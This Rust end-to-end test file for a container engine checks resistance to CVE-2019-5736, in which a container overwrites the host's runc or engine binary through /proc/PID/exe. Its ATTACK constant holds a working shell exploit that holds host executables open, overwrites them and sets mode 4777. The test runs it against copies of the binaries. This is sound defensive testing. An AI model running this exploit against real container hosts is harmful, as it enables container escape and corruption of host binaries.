//! Attacks on the programs of the engine: a process in a container opens `/proc/PID/exe` of the OCI runtime or of Podium, and
//! writes to the file when the program has ended (CVE-2019-5736).
//!
//! The victims are copies of the programs. Each attack also runs against a program without protection, which it must overwrite.

use nix::sys::signal::Signal;
use serde_json::{Value, json};
use std::{
    collections::BTreeMap,
    fs,
    os::unix::fs::MetadataExt,
    path::{Path, PathBuf},
    process::Command,
};
use tempfile::TempDir;
use test_images::ImageConfig;
use tests::{Cluster, ClusterBuilder, Kubectl, PodBuilder, e2e_test, eventually, podium_binary};

/// Commands that run while the container looks for processes.
const EXECS: usize = 20;
/// Executions of the OCI runtime as the command of a process in the container.
const SELF_EXECS: usize = 5;
/// The image whose command is the program that executes it: the OCI runtime.
const SELF_IMAGE: &str = "docker.io/library/self-exe:1";
/// Names of the copies.
const RUNC: &str = "runc";
const PODIUM: &str = "podium";
/// A copy that the attacker executes itself, from a volume.
const UNPROTECTED: &str = "unprotected/runc";
/// Arguments with which `runc` opens a FIFO, so that it waits for the attack.
const WAITS: [&str; 3] = ["--log", "/v/fifo", "list"];

/// Opens the program of each process that is not the container's own, waits until the process has ended or executes another
/// program, and writes to the first one. Process 1 does not end, and is attacked once. The last attempt reports its error.
const ATTACK: &str = r#"
    mkfifo /v/fifo
    attack() {
        [ /proc/self/fd/9 -ef /bin/busybox ] && return
        read -r name < $p/comm
        [ $p = /proc/1 ] && [ -e /v/init ] && return
        [ $p = /proc/1 ] && : > /v/init
        echo "holds $name"
        n=0
        while read -r now < $p/comm && [ "$now" = "$name" ] && [ $n -lt 20000 ]; do
            : 8<> /v/fifo
            n=$((n + 1))
        done
        n=0
        while [ $n -lt 5000 ]; do
            n=$((n + 1))
            echo overwritten 1<> /proc/self/fd/9 && echo "overwrote $name" && break
        done
        chmod 4777 /proc/self/fd/9 && echo "changed the mode of $name"
        { echo overwritten 1<> /proc/self/fd/9; } 2>&1
        echo "ended $name"
    }
    while :; do
        for p in /proc/[0-9]*; do
            [ $p/exe -ef /bin/busybox ] || [ ! -e $p/exe ] || attack 9< $p/exe
        done
    done 2> /dev/null"#;

/// Copies of the programs.
struct Victims {
    dir: TempDir,
    /// Digest and mode of each copy when it was made.
    states: BTreeMap<&'static str, (String, u32)>,
}

impl Victims {
    fn new() -> Self {
        let mut victims = Self { dir: tempfile::tempdir().unwrap(), states: BTreeMap::new() };
        fs::create_dir(victims.path("unprotected")).unwrap();
        for (original, copy) in [(runc(), RUNC), (podium_binary(), PODIUM), (runc(), UNPROTECTED)] {
            // Another process writes the copy: a child of this one could have it open for writing, so that it is busy.
            let copied = Command::new("cp").arg(original).arg(victims.path(copy)).status().unwrap();
            assert!(copied.success(), "{copy}");
            victims.states.insert(copy, victims.state(copy));
        }
        victims
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn state(&self, name: &str) -> (String, u32) {
        let sum = Command::new("sha256sum").arg(self.path(name)).output().unwrap();
        assert!(sum.status.success(), "{name}");
        (String::from_utf8(sum.stdout).unwrap(), fs::metadata(self.path(name)).unwrap().mode())
    }

    #[track_caller]
    fn assert_unchanged(&self, name: &str) {
        assert_eq!(self.state(name), self.states[name], "{name} was changed");
    }
}

/// Returns the OCI runtime of the machine.
fn runc() -> PathBuf {
    let dirs = ["/usr/local/sbin", "/usr/local/bin", "/usr/sbin", "/usr/bin"].map(|dir| Path::new(dir).join("runc"));
    dirs.into_iter().find(|path| path.exists()).expect("runc is installed: `cargo xtask setup` does that")
}

/// Starts a cluster of the copies, with an image store of its own.
fn start(victims: &Victims) -> (Cluster, TempDir) {
    let images = tempfile::tempdir().unwrap();
    let builder = ClusterBuilder::default().env("PODIUM_IMAGE_STORE", &images.path().display().to_string());
    let mut cluster = builder.program(&victims.path(PODIUM)).start();
    cluster.stop_podium(Signal::SIGTERM);
    let handlers = json!({"defaultHandler": "runc", "handlers": {"runc": {"program": victims.path(RUNC)}}});
    fs::write(cluster.data_dir().join("runtimes.yaml"), handlers.to_string()).unwrap();
    cluster.start_podium();
    let tar = images.path().join("image.tar");
    let command = ["/proc/self/exe"].into_iter().chain(WAITS).map(str::to_owned).collect();
    test_images::busybox(&tar, &[SELF_IMAGE], &ImageConfig { cmd: Some(command), ..ImageConfig::default() }).unwrap();
    cluster.import(&tar);
    (cluster, images)
}

/// Returns a Pod with the attack. It has the shared libraries of the node, with which programs of the node run.
fn attacker(name: &str, victims: &Victims) -> PodBuilder {
    let of_the_node = [("lib", "/lib"), ("lib64", "/lib64")];
    let unprotected = json!({"hostPath": {"path": victims.path("unprotected")}});
    let pod = PodBuilder::new(name).restart_policy("OnFailure").grace_period(1).script(ATTACK);
    let pod = pod.volume("v", &json!({"emptyDir": {}})).mount("v", "/v");
    let pod = pod.volume("unprotected", &unprotected).mount("unprotected", "/unprotected");
    of_the_node
        .into_iter()
        .fold(pod, |pod, (name, path)| pod.volume(name, &json!({"hostPath": {"path": path}})).mount(name, path))
}

/// Runs commands in the attacker's container, and checks that the attack works against a program without protection.
fn run_execs(kubectl: &Kubectl, pod: &str, victims: &Victims) {
    let exec = |command: &[&str]| kubectl.args(&[&["exec", pod, "-c", "c", "--"], command].concat(), "");
    for _ in 0..EXECS {
        assert_eq!(exec(&["echo", "here"]).ok(), "here\n");
    }
    let waiting = |program| [&[program], &WAITS[..]].concat();
    for _ in 0..SELF_EXECS {
        exec(&waiting("/proc/self/exe")).ok();
    }
    victims.assert_unchanged(UNPROTECTED);
    let is_overwritten = || fs::read(victims.path(UNPROTECTED)).unwrap().starts_with(b"overwritten\n");
    eventually(&format!("{pod} to overwrite a program without protection"), || {
        // It fails when it is overwritten.
        exec(&waiting("/unprotected/runc"));
        is_overwritten()
    });
}

/// Checks that the attacker held these programs open, tried to write to each, and had no success.
fn check_log(kubectl: &Kubectl, pod: &str, programs: &[&str]) {
    let log = || kubectl.run(&format!("logs {pod} -c c")).ok();
    for program in programs {
        let ended = format!("ended {program}\n");
        eventually(&format!("{pod} to attack {program}"), || {
            // What starts a process lives for a moment only: another try, if the attacker has missed all so far.
            log().contains(&ended) || {
                kubectl.args(&["exec", pod, "-c", "c", "--", "true"], "").ok();
                false
            }
        });
    }
    let log = log();
    // Its own copy is without protection.
    let successes: Vec<&str> =
        log.lines().filter(|line| line.starts_with("overwrote ") && *line != "overwrote runc").collect();
    assert!(successes.is_empty(), "{pod}: {successes:?} in {log}");
}

#[e2e_test("a container cannot overwrite the OCI runtime through /proc/PID/exe")]
fn container_cannot_overwrite_oci_runtime() {
    let victims = Victims::new();
    let (cluster, _images) = start(&victims);
    let kubectl = cluster.kubectl_in("default");
    kubectl.apply(&attacker("p", &victims).to_string());
    kubectl.wait_ready("p");
    run_execs(&kubectl, "p", &victims);
    // The OCI runtime makes itself invisible until it is the command of the container.
    check_log(&kubectl, "p", &["exe"]);
    victims.assert_unchanged(RUNC);
}

#[e2e_test("containers that share processes and trace them overwrite no program")]
fn tracing_container_overwrites_no_program() {
    let victims = Victims::new();
    let (cluster, _images) = start(&victims);
    let kubectl = cluster.kubectl_in("default");
    let traces = json!({"securityContext": {"capabilities": {"add": ["SYS_PTRACE"]}}});
    let own = attacker("p", &victims).container(&traces).spec(&json!({"shareProcessNamespace": true})).build();
    let mut itself = own["spec"]["containers"][0].clone();
    for (field, value) in [("name", json!("itself")), ("image", json!(SELF_IMAGE)), ("command", Value::Null)] {
        itself[field] = value;
    }
    let mut pod = own;
    pod["spec"]["containers"].as_array_mut().unwrap().push(itself);
    kubectl.apply(&pod.to_string());
    let ended = "/status/containerStatuses/1/state/terminated/exitCode";
    kubectl.wait_value("pod/p", ended, &json!(0));
    run_execs(&kubectl, "p", &victims);
    check_log(&kubectl, "p", &["exe", "runc:[2:INIT]", "podium-pod-init"]);
    victims.assert_unchanged(RUNC);
    victims.assert_unchanged(PODIUM);
}
